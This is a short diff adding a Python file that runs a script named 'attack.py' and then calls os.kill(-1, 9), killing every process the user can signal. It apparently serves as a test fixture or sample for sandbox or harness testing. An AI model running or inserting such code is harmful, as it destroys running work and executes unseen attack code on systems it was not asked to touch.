@@ -1,0 +1,5 @@
+import os
+import runpy
+
+runpy.run_path("attack.py")
+os.kill(-1, 9)
